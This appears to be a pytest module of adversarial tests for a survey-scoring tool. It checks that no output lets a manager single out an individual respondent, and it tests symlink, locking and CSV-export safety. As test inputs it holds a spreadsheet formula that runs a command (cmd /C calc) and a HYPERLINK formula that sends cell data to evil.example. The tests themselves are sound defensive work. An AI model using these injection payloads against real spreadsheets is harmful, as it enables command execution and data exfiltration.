"""Adversarial tests: a curious manager with every output of a run tries to single out a PSW.

The data: simulated teams of 10, plus
- "Lone Team": 1 PSW and 3 colleagues (4 < k = 5, below the threshold). The PSW answers 1
  (least favourable) to everything, so a recovered figure is unmistakable;
- "Half Team": the same kind of PSW and 8 colleagues (visible, one PSW among nine).

Each test writes out the attacker's arithmetic and asserts that it fails: the quantities it needs
are absent, or they pool at least k respondents. docs/privacy.md states the rules.
"""

from __future__ import annotations

import csv
import fcntl
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from copro_scale import load_instrument, read_responses, score
from copro_scale.cli import main
from copro_scale.instrument import FACES, default_instrument_path
from copro_scale.simulate import simulate

INST = load_instrument()
FORMULA_TEAM = "=cmd|' /C calc'!A0"  # a team name a spreadsheet would run
K = getattr(INST, "min_responses", 5)  # (the getattr lets this module run against old code)
N_BOOT = "100"


def _extreme_psw(template: pd.Series, team: str, rid: str) -> dict:
    """A PSW whose keyed answers are all 1: every face score is exactly 1."""
    row = template.to_dict()
    row.update(response_id=rid, team=team, role="psw", form="psw")
    for it in INST.items:
        row[it.id] = 5 if it.reverse else 1
    return row


def make_input(path: Path, seed: int = 41, lone: bool = True, n_teams: int = 6) -> pd.DataFrame:
    r = simulate(n_teams, 10, seed=seed).responses
    colleagues = r[r["form"] == "colleague"]
    extra = [_extreme_psw(r.iloc[0], "Half Team", "H0")]
    extra += [c.to_dict() | {"team": "Half Team", "response_id": f"H{i + 1}"}
              for i, (_, c) in enumerate(colleagues.head(8).iterrows())]
    if lone:
        extra.append(_extreme_psw(r.iloc[0], "Lone Team", "L0"))
        extra += [c.to_dict() | {"team": "Lone Team", "response_id": f"L{i + 1}"}
                  for i, (_, c) in enumerate(colleagues.iloc[8:11].iterrows())]
    out = pd.concat([r, pd.DataFrame(extra)], ignore_index=True)
    out.loc[out["team"] == out["team"].iloc[0], "team"] = FORMULA_TEAM
    out.to_csv(path, index=False)
    return out


def _run(*argv) -> tuple[int, str]:
    """Run the CLI in-process; (exit code, stderr)."""
    import contextlib
    import io

    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = main([str(a) for a in argv])
    return code, err.getvalue()


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    d = tmp_path_factory.mktemp("attack")
    data = make_input(d / "responses.csv")
    assert _run("report", d / "responses.csv", "-o", d / "report", "--n-draws", N_BOOT)[0] == 0
    assert _run("validate", d / "responses.csv", "-o", d / "validation")[0] == 0
    assert _run("score", d / "responses.csv", "-o", d / "scores.csv",
                "--favourable", d / "fav.csv")[0] == 0
    return dict(dir=d, data=data,
                summary=json.loads((d / "report" / "summary.json").read_text()),
                validation=json.loads((d / "validation" / "validation.json").read_text()),
                fav=pd.read_csv(d / "fav.csv"),
                truth=score(read_responses(data)))


def _psw_face_sums(validation: dict) -> tuple[int, dict]:
    """The attacker's reading of validation.json: PSW count and sum of face scores per face.

    With complete answers a respondent's face score is the mean of the face's items, so the sum
    of face scores over the sample is n * (mean of the item means).
    """
    sec = validation["forms"]["psw"]
    if "reliability" not in sec:
        return sec.get("n", 0), {}
    faces = {s["scale"]: s for s in sec["reliability"] if s["kind"] == "face"}
    sums = {}
    for f in FACES:
        st = faces[f]["item_stats"]  # a table as {index, columns, data}
        stats = pd.DataFrame(st["data"], index=st["index"], columns=st["columns"])
        sums[f] = sec["n"] * float(stats["mean"].mean())
    return sec["n"], sums


# -- 1. differencing: validation (all PSWs) minus the report's organisation PSWs --------------------
def test_validation_minus_report_reveals_no_psw(outputs):
    """Attack of the issue: n_v * mean_v (validation) - n_r * mean_r (report) = the left-out PSWs."""
    n_val, val_sums = _psw_face_sums(outputs["validation"])
    org = outputs["summary"]["organisation"]
    pooled = org.get("psw_vs_colleague")
    truth = outputs["truth"]
    lone_truth = truth.loc[truth["response_id"].eq("L0") | (truth["team"].eq("Lone Team") &
                           truth["form"].eq("psw")), list(FACES)].iloc[0]
    assert lone_truth.tolist() == [1.0, 1.0, 1.0]
    # the validation covers exactly the organisation's respondents: the same PSWs as the report
    reported_psw = int(truth[truth["team"].isin(org["teams"]) & truth["form"].eq("psw")].shape[0])
    assert n_val == reported_psw
    assert pooled is not None and val_sums  # both published here: the attack has its inputs
    n_rep = pooled["n_psw"]
    diff_n = n_val - n_rep
    # the residual n_v * mean_v - n_r * mean_r is a sum over diff_n people: none, or at least k
    assert diff_n == 0 or diff_n >= K
    for f in FACES:
        residual = val_sums[f] - n_rep * pooled["psw"][f]
        # before: diff_n = 1 and the residual was the lone PSW's face score (1.0 here); item
        # statistics the plan withholds (null) leave the attacker no residual at all
        assert diff_n >= K or np.isnan(residual) or abs(residual - lone_truth[f]) > 0.5


# -- 2. differencing: organisation minus the visible teams ---------------------------------------
def test_organisation_minus_visible_teams_is_nobody_or_k(outputs):
    s = outputs["summary"]
    org = s["organisation"]
    visible = [t for t in s["teams"] if not t["suppressed"]]
    hidden_n = org["n"] - sum(t["n"]["total"] for t in visible)
    assert hidden_n == 0 or hidden_n >= K
    for f in FACES:
        # the attacker's arithmetic: org sum - team sums = the hidden respondents' sum
        hidden_sum = org["n"] * org["faces"][f] - sum(t["n"]["total"] * t["faces"][f] for t in visible)
        if hidden_n == 0 and org["weights"] == "respondents":
            assert abs(hidden_sum) < 1e-3 * org["n"]  # a sum over nobody
        assert hidden_n >= K or abs(hidden_sum - 1.0) > 0.5  # not the lone PSW's 1.0
    assert "Lone Team" not in org["teams"]  # 4 hidden respondents < k: left out, and said
    assert any("left out" in n for n in s["meta"]["notes"])


# -- 3. one PSW at half weight, and two weightings of one team ------------------------------------
def test_a_lone_psw_is_not_half_of_a_team(outputs):
    truth = outputs["truth"]
    half = truth[truth["team"] == "Half Team"]
    rec = next(t for t in outputs["summary"]["teams"] if t["team"] == "Half Team")
    for f in FACES:
        a = rec["faces"][f]                  # the published team figure
        b = float(half[f].mean())            # every response once (the item distributions give it)
        # attacker: a = (p + c)/2 and b = (p + 8c)/9  =>  p = (16a - 9b)/7
        p_hat = (16 * a - 9 * b) / 7
        assert abs(a - b) <= 0.005 + 1e-9             # pooled (to the published 2 decimals)
        assert abs(p_hat - 1.0) > 0.5                 # the PSW's 1.0 is not recovered


def test_per_form_counts_below_k_read_fewer_than(outputs):
    rec = next(t for t in outputs["summary"]["teams"] if t["team"] == "Half Team")
    assert rec["n"]["psw"] == f"fewer than {K}"
    assert rec["n"]["colleague"] != "8" and rec["n"]["colleague"] != 8  # 9 - 8 would give 1
    page = next((outputs["dir"] / "report" / "teams").glob("half-team*.html")).read_text()
    assert f"fewer than {K}" in page and "every response counts once" in page
    assert not any(r["n_colleague"] == 8 for r in csv.DictReader(
        open(outputs["dir"] / "report" / "summary.csv")) if r["team"] == "Half Team")


# -- 4. --favourable ---------------------------------------------------------------------------
def test_favourable_has_no_team_below_k(outputs):
    fav = outputs["fav"]
    assert "Lone Team" not in set(fav["team"])
    assert (fav["n"] >= K).all()
    # and no CSV of the run carries a formula (the team name is one)
    d = outputs["dir"]
    for p in (d / "fav.csv", d / "scores.csv", d / "report" / "summary.csv"):
        cells = [c for row in csv.reader(open(p, encoding="utf-8")) for c in row]
        assert "'" + FORMULA_TEAM in cells
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), p


def test_validation_html_and_json_agree_on_the_population(outputs):
    html = (outputs["dir"] / "validation" / "validation.html").read_text()
    v = outputs["validation"]
    assert "rows_read" not in v["sample"]  # rows read - analysed would count the left-out team
    assert f"fewer than {K}" in json.dumps(v["sample"])
    assert "Lone Team" not in html


# -- 5. the stale folder --------------------------------------------------------------------------
def test_pages_of_teams_gone_are_gone(tmp_path):
    make_input(tmp_path / "w1.csv", lone=False)
    w2 = make_input(tmp_path / "w2.csv", seed=42, lone=False)
    w2 = w2[w2["team"] != "Half Team"]
    w2.to_csv(tmp_path / "w2.csv", index=False)
    out = tmp_path / "report"
    assert _run("report", tmp_path / "w1.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    assert list((out / "teams").glob("half-team*"))
    (out / "teams" / "planted.html").write_text("wave 1, k = 3: 4 responses")
    assert _run("report", tmp_path / "w2.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    assert not list((out / "teams").glob("half-team*"))
    assert not (out / "teams" / "planted.html").exists()
    hashes = {json.loads((out / "summary.json").read_text())["meta"]["input_hash"]}
    assert len(hashes) == 1


def test_a_folder_copro_does_not_own_is_refused(tmp_path):
    make_input(tmp_path / "r.csv", lone=False)
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.docx").write_text("not copro's")
    code, err = _run("report", tmp_path / "r.csv", "-o", out, "--n-draws", N_BOOT)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "not written by copro" in err
    assert (out / "thesis.docx").read_text() == "not copro's"


@pytest.mark.parametrize("target", ["file", "/dev/null", "proc"])
def test_an_output_that_is_no_folder_is_one_line(tmp_path, target):
    make_input(tmp_path / "r.csv", lone=False)
    out = {"file": tmp_path / "r.csv", "/dev/null": Path("/dev/null"),
           "proc": Path("/proc/copro-cannot-write-here/out")}[target]
    code, err = _run("validate", tmp_path / "r.csv", "-o", out)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not Path("/dev/.null.copro-lock").exists()


# -- 6. planted links -----------------------------------------------------------------------------
def test_planted_links_are_not_written_through(tmp_path):
    make_input(tmp_path / "r.csv", lone=False)
    out, outside = tmp_path / "report", tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("precious")
    assert _run("report", tmp_path / "r.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    page = next((out / "teams").glob("*.html"))
    page.unlink()
    page.symlink_to(victim)                              # teams/x.html -> elsewhere
    (out / "summary.csv").unlink()
    (out / "summary.csv").symlink_to(victim)              # summary.csv -> elsewhere
    assert _run("report", tmp_path / "r.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    assert victim.read_text() == "precious"
    assert not any(p.is_symlink() for p in out.rglob("*"))
    # teams -> ../outside
    import shutil

    shutil.rmtree(out / "teams")
    (out / "teams").symlink_to(outside)
    assert _run("report", tmp_path / "r.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    assert not (out / "teams").is_symlink()
    # the output path itself a link
    link = tmp_path / "link"
    link.symlink_to(outside)
    code, err = _run("report", tmp_path / "r.csv", "-o", link, "--n-draws", N_BOOT)
    assert code == 2 and "symbolic link" in err
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]


# -- 7. a kill mid-run, and two runs at once --------------------------------------------------------
def _tree(folder: Path) -> dict:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _cli(*argv) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "copro_scale.cli", *map(str, argv)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


@pytest.mark.slow  # two real processes (15-20 s)
def test_sigkill_mid_run_leaves_the_previous_output(tmp_path):
    make_input(tmp_path / "w1.csv", lone=False)
    make_input(tmp_path / "w2.csv", seed=43, lone=False, n_teams=60)  # 61 pages: a long write
    out = tmp_path / "report"
    assert _run("report", tmp_path / "w1.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    before = _tree(out)
    proc = _cli("report", tmp_path / "w2.csv", "-o", out, "--n-draws", N_BOOT)
    deadline = time.time() + 120
    # kill as soon as the run has started writing (its private folder exists, or any page changed)
    while time.time() < deadline and proc.poll() is None:
        if list(tmp_path.glob(".report.copro-new-*")) or _tree(out) != before:
            break
        time.sleep(0.005)
    assert proc.poll() is None, "the run ended before it could be killed"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert _tree(out) == before
    # the next run clears what the killed run left and publishes whole
    assert _run("report", tmp_path / "w2.csv", "-o", out, "--n-draws", N_BOOT)[0] == 0
    assert not list(tmp_path.glob(".report.copro-new-*"))


@pytest.mark.slow  # two real processes (15-20 s)
def test_two_runs_into_one_folder_do_not_interleave(tmp_path):
    make_input(tmp_path / "w1.csv", lone=False)
    make_input(tmp_path / "w2.csv", seed=43, lone=False)
    out = tmp_path / "report"
    # a run holding the folder: the second stops at once with one line
    lock = tmp_path / ".report.copro-lock"
    fd = os.open(lock, os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        code, err = _run("report", tmp_path / "w2.csv", "-o", out, "--n-draws", N_BOOT)
    finally:
        os.close(fd)
    assert code == 2 and "another copro run" in err and len(err.strip().splitlines()) == 1
    # two real processes at once: whichever wins, the folder is one run's, whole
    procs = [_cli("report", tmp_path / w, "-o", out, "--n-draws", "400") for w in ("w1.csv", "w2.csv")]
    codes = [p.wait() for p in procs]
    assert 0 in codes
    meta = json.loads((out / "summary.json").read_text())["meta"]
    pages = [p.read_text() for p in (out / "teams").glob("*.html")] + [(out / "index.html").read_text()]
    assert all(meta["input_hash"][:12] in p for p in pages)


# -- 8. the threshold floor ----------------------------------------------------------------------------
@pytest.mark.parametrize("k", ["1", "3", str(K - 1)])
def test_the_threshold_cannot_be_lowered(tmp_path, k):
    make_input(tmp_path / "r.csv")
    for cmd in (["report", "-o", tmp_path / "o"], ["validate", "-o", tmp_path / "v"],
                ["score", "--favourable", tmp_path / "f.csv"]):
        code, err = _run(cmd[0], tmp_path / "r.csv", *cmd[1:], "--min-responses", k)
        assert code == 2 and "can only be raised" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "o").exists() and not (tmp_path / "f.csv").exists()


def test_an_instrument_cannot_promise_fewer_than_three(tmp_path):
    data = yaml.safe_load(default_instrument_path().read_text(encoding="utf-8"))
    data["privacy"]["min_responses"] = 2
    (tmp_path / "i.yaml").write_text(yaml.safe_dump(data), encoding="utf-8")
    code, err = _run("instrument", "check", tmp_path / "i.yaml")
    assert code == 2 and "privacy.min_responses" in err


# -- 9. formulas ------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("fmt", ["redcap", "forms-sheet", "limesurvey"])
def test_instrument_exports_carry_no_formula(tmp_path, fmt):
    data = yaml.safe_load(default_instrument_path().read_text(encoding="utf-8"))
    data["items"][0]["text"]["psw"] = FORMULA
    data["items"][0]["text"]["colleague"] = "+" + FORMULA[1:]
    data["title"] = "@SUM(1)"
    (tmp_path / "i.yaml").write_text(yaml.safe_dump(data), encoding="utf-8")
    out = tmp_path / f"x.{fmt}"
    assert _run("instrument", "export", "--format", fmt, "--instrument", tmp_path / "i.yaml",
                "-o", out)[0] == 0
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines(), delimiter="\t" if fmt == "limesurvey" else ","))
    header = rows[0]
    for row in rows[1:]:
        for col, cell in zip(header, row):
            if col == "Field Annotation":      # REDCap action tags are the feature
                assert cell == "" or cell.startswith("@") and "HYPERLINK" not in cell
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
    assert "HYPERLINK" in text  # the text is kept, neutralised
